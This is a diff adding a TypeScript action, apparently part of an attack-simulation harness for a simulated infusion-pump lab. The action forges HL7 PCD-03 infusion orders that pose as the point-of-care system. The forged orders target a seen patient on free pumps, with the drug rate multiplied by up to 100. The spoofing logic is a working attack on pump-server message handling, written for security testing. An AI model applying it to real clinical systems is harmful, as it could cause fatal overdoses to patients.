@@ -1,0 +1,89 @@
+import { z } from 'zod';
+import { buildRgvO15 } from '../../simulators/hl7/pcd/pcd03-infusion-order.ts';
+import type { OrderView, PumpView } from '../engine/lab-under-test.ts';
+import type { Action, ClientEvidence } from './action.ts';
+import { exchangeMllp } from './clients/mllp-exchange.ts';
+import { connectionChannel, evidence, evidenceCodes, report, statusOf } from './evidence.ts';
+import { addressOf, bySerial, drugEntry, endpointFor, fabricatedId, isIdle, roundRate } from './targets.ts';
+
+const params = z.strictObject({
+  /** The spoofed order's rate is the seen order's rate times this. */
+  rateFactor: z.number().positive().max(100),
+});
+
+/** Pumps tried at most: each refusal is one more message in the server's log. */
+const maxAttempts = 4;
+/** The point-of-care's MSH-3/4 and the pump server's MSH-5/6 (simulators/poc/workstation.ts). */
+const pointOfCare = { application: 'POC', facility: 'PUMPLAB' };
+const pumpServer = { application: 'PUMPSRV', facility: 'PUMPLAB' };
+
+/**
+ * A spoofed [PCD-03] Communicate Infusion Order (RGV^O15, IHE PCD TF-2 3.3.4) to the pump server's
+ * HL7 listener over one-way TLS with no client certificate, posing as the point-of-care: the patient
+ * of an order the attacker saw at the bedside, a free pump, a fabricated order number (ORC-2), the
+ * seen rate times `rateFactor`. MSH-16 AL asks for the application acknowledgement: with no return
+ * route for the sender the pump server answers on this connection with the RRG^O16, AA only when the
+ * pump took the program (pcd03-handler.ts); with one it answers CA. Done on AA or CA.
+ */
+export const hl7Order: Action<typeof params> = {
+  name: 'hl7-order',
+  summary: 'Sends a spoofed PCD-03 infusion order for a seen patient to a free pump.',
+  params,
+  async run(context, { rateFactor }) {
+    const reached = endpointFor(context, 'hl7');
+    if (!reached.ok)
+      return report('blocked', 'The pump server’s HL7 listener is out of reach.', [reached.evidence]);
+    const seen = context.lab.observe.orders()[0];
+    if (!seen)
+      return report('blocked', 'No order seen at a bedside.', [
+        evidence('hl7', evidenceCodes.noTarget, 'no order seen'),
+      ]);
+    const items: ClientEvidence[] = [];
+    const where = addressOf(reached.endpoint);
+    for (const serial of candidatePumps(seen, context.lab.observe.pumps())) {
+      const message = orderMessage(seen, serial, rateFactor, context.lab.now());
+      const answer = await exchangeMllp(reached.endpoint, context.attacker.address, message);
+      if (!answer.ok) {
+        items.push(evidence(connectionChannel(answer.code), answer.code, answer.line, where));
+        break;
+      }
+      const { code, errors } = answer.ack;
+      const detail = [...errors.map((error) => error.code), ...answer.applicationErrors].join(',');
+      items.push(
+        evidence('hl7', code || 'NO_MSA', `MSA-1 ${code}${detail ? `, ERR ${detail}` : ''}`, serial),
+      );
+      if (code === 'AA' || code === 'CA') {
+        return report('done', `The pump server accepted a spoofed order for pump ${serial}.`, items);
+      }
+    }
+    return report(statusOf(false), 'The spoofed order was not accepted.', items);
+  },
+};
+
+/** The seen order's pump when it is free, then the other free pumps; at most `maxAttempts`. */
+function candidatePumps(seen: OrderView, pumps: readonly PumpView[]): string[] {
+  const free = bySerial(pumps).filter((pump) => isIdle(pump) && pump.connected);
+  const serials = [seen.serial, ...free.map((pump) => pump.serial)].filter(
+    (serial, index, all) => all.indexOf(serial) === index && free.some((pump) => pump.serial === serial),
+  );
+  return (serials.length > 0 ? serials : [seen.serial]).slice(0, maxAttempts);
+}
+
+function orderMessage(seen: OrderView, serial: string, factor: number, now: number): string {
+  const drug = drugEntry(seen.drugId)?.entry;
+  return buildRgvO15({
+    patient: { mrn: seen.mrn },
+    order: {
+      placerId: fabricatedId('ORD'),
+      drug: { id: seen.drugId, name: drug?.name ?? seen.drugId },
+      rate: roundRate(seen.rate * factor),
+      vtbi: 250,
+    },
+    pumpId: serial,
+    controlId: fabricatedId('POC'),
+    at: now,
+    sender: pointOfCare,
+    receiver: pumpServer,
+    applicationAck: 'AL',
+  });
+}
